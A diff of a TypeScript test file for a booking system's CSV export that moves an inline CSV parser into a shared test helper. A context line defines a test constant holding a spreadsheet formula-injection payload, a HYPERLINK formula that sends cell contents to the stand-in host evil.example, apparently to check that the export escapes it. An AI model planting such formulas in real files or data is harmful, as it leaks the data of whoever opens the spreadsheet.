@@ -1,5 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestAdmin, signIn } from '../../../tests/helpers/admin-session.ts';
+import { parseCsv } from '../../../tests/helpers/csv.ts';
 import { databaseTargets, startTestApp, type TestApp } from '../../../tests/helpers/test-app.ts';
 import { bookings } from '../../db/schema.ts';
 import type { StoredBooking } from '../../shared/booking-request.ts';
@@ -13,35 +14,6 @@ const SUNDAY = '2026-06-07';
 
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
 const AWKWARD_NAME = 'Dan "The Man" O’Brien, Jr.\nSecond line';
-
-/** RFC 4180 parser, enough to read the export back. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let index = 0; index < text.length; index++) {
-    const character = text[index];
-    if (quoted) {
-      if (character === '"' && text[index + 1] === '"') {
-        field += '"';
-        index++;
-      } else if (character === '"') quoted = false;
-      else field += character;
-    } else if (character === '"') quoted = true;
-    else if (character === ',') {
-      row.push(field);
-      field = '';
-    } else if (character === '\r' && text[index + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      index++;
-    } else field += character;
-  }
-  return rows;
-}
 
 function booking(overrides: Partial<typeof bookings.$inferInsert> & { reference: string }) {
   return {
